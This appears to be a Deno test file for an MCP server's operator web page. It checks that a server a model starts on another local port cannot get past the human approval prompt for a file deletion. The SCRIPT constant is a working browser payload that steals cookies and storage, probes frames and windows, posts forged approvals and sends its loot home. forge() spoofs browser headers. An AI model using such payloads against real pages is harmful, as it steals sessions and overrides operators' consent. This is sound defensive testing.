/** Attacks on the operator's page by a server that a model started on another port of the same host. @module */
import assert from "node:assert/strict";
import { type HttpServer, Sandbox, startHttp } from "../support/binary.ts";
import { browserTest, logIn, withPage } from "../support/browser.ts";
import { callTool } from "../support/call_tool.ts";
import { ask, WITHOUT_LIMITS } from "../support/raw_http.ts";

/** What its page does in the operator's browser; it sends home whatever it can read. */
const SCRIPT = `
const out = {};
const note = async (name, work) => { try { out[name] = await work(); } catch (error) { out[name] = "refused: " + error.name; } };
const json = { "Content-Type": "application/json" };
const post = (path, body, options) => fetch(TARGET + path, { method: "POST", credentials: "include", body, ...options });
await note("cookie", () => document.cookie);
await note("storage", () => JSON.stringify([{ ...sessionStorage }, { ...localStorage }]));
await note("channel", () => new Promise((resolve) => {
  const channel = new BroadcastChannel("llmc-page-key");
  channel.onmessage = ({ data }) => resolve(JSON.stringify(data));
  channel.postMessage("ask");
  setTimeout(() => resolve("silence"), 1000);
}));
await note("frame", () => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.onload = () => { try { resolve(frame.contentDocument.body.textContent); } catch { resolve("closed"); } };
  frame.src = TARGET + "/ui";
  document.body.append(frame);
}));
await note("window", async () => {
  const opened = open(TARGET + "/ui");
  await new Promise((resolve) => setTimeout(resolve, 500));
  return opened ? opened.document.body.textContent : "none";
});
await note("read", async () => (await fetch(TARGET + "/ui/live", { credentials: "include" })).text());
await note("act", async () => (await post("/ui/act", ACT, { headers: json })).status);
await note("act without a preflight", async () => (await post("/ui/act", ACT, { mode: "no-cors" })).type);
await note("guess", async () => (await post("/ui/act", ACT, { headers: { ...json, "X-LLMC-Page-Key": "x" } })).status);
await fetch("/loot", { method: "POST", body: JSON.stringify(out) });
`;

/** Serves that page, and remembers every header that a browser sent it. */
function startThief(target: string) {
  const seen: [string, string][] = [];
  const { promise: loot, resolve } = Promise.withResolvers<Record<string, string>>();
  let act = "{}";
  const closing = new AbortController();
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, signal: closing.signal, onListen() {} },
    async (request) => {
      seen.push(...request.headers);
      if (new URL(request.url).pathname === "/loot") resolve(await request.json());
      const code = `const TARGET = ${JSON.stringify(target)}, ACT = ${JSON.stringify(act)};\n${SCRIPT}`;
      const html = `<!DOCTYPE html><title>dev server</title><body><script type="module">${code}</script>`;
      return new Response(html, { headers: { "Content-Type": "text/html" } });
    },
  );
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    seen,
    loot,
    aimAt: (fields: object) => void (act = JSON.stringify(fields)),
    async [Symbol.asyncDispose]() {
      closing.abort();
      await server.finished;
    },
  };
}

/** Its programs can send any header, those of a browser as well. */
async function forge(server: HttpServer, path: string, body: string, headers: Record<string, string>) {
  const { status } = await ask(server, {
    method: body === "" ? "GET" : "POST",
    path,
    body,
    headers: {
      "X-LLMC-Token": "",
      Origin: server.url,
      Host: new URL(server.url).host,
      "Sec-Fetch-Site": "same-origin",
      "Content-Type": "application/json",
      ...headers,
    },
  });
  return status;
}

browserTest(
  "a server on another port gets nothing from the operator's browser that lets it look or allow a call",
  async () => {
    await using sandbox = await Sandbox.make({ "a.txt": "one\n" });
    await using server = await startHttp(sandbox, {
      args: [...WITHOUT_LIMITS, "--set", 'mcp.approvals.require=["destroy"]'],
    });
    await using thief = startThief(server.url);
    await withPage(server, async ({ page, faults }) => {
      await logIn(page, server);
      const deleting = callTool(server, "linux_fs_delete", { path: "a.txt" });
      const question = page.locator(".question");
      await question.waitFor();
      const id = await question.locator("form").getAttribute("data-id") ?? "";
      const code = await question.locator(".code").textContent() ?? "";
      // More than it could know: the very question and its code.
      const act = { act: "allow", id, code };
      thief.aimAt(act);

      const other = await page.context().newPage();
      await other.goto(`${thief.url}/ui/`);
      const loot = await thief.loot;
      assert.equal(loot.cookie, "");
      assert.equal(loot.storage, "[{},{}]");
      assert.equal(loot.channel, "silence");
      for (const way of ["frame", "window"]) assert.match(String(loot[way]), /^(closed|none|refused.*)?$/, way);
      for (const way of ["read", "act", "guess"]) assert.match(String(loot[way]), /refused/, way);
      assert.ok(thief.seen.every(([name]) => name !== "cookie"), JSON.stringify(thief.seen));

      const stolen = Object.fromEntries(
        thief.seen.filter(([name]) =>
          !["host", "connection", "content-length", "origin", "content-type", "sec-fetch-site"].includes(name)
        ),
      );
      for (const headers of [{}, stolen, { Cookie: `llmc-page-key=${code}` }, { "X-LLMC-Page-Key": code }]) {
        const forged = {
          ...headers,
          Origin: server.url,
          "Content-Type": "application/json",
          "Sec-Fetch-Site": "same-origin",
        };
        assert.equal(await forge(server, "/ui/act", JSON.stringify(act), forged), 403);
        assert.equal(await forge(server, "/ui/live?page=activity", "", forged), 401);
      }
      await Deno.stat(`${sandbox.root}/a.txt`);
      assert.equal(await question.count(), 1, "the question is still open");
      await page.getByRole("button", { name: /^Deny/ }).click();
      assert.equal((await deleting).detail_code, "APPROVAL_DECLINED");
      faults.length = 0; // the attacks were refused
    });
  },
);

Deno.test("a program with the token alone cannot read a code or answer a question at the page", async () => {
  await using sandbox = await Sandbox.make({ "a.txt": "one\n" });
  await using server = await startHttp(sandbox, {
    args: [...WITHOUT_LIMITS, "--set", 'mcp.approvals.require=["destroy"]'],
  });
  assert.equal((await callTool(server, "linux_fs_delete", { path: "a.txt" })).detail_code, "APPROVAL_REQUIRED");
  const headers = { "X-LLMC-Token": server.token };
  const stream = await fetch(`${server.url}/ui/live`, { headers });
  const reader = (stream.body ?? new ReadableStream()).pipeThrough(new TextDecoderStream()).getReader();
  let text = "";
  while (!text.includes("waits for your consent")) text += (await reader.read()).value ?? "";
  await reader.cancel();
  assert.doesNotMatch(text, /data-id|class=\\"code\\"/);
  assert.equal(await forge(server, "/ui/act", JSON.stringify({ act: "deny", id: crypto.randomUUID() }), headers), 403);
});
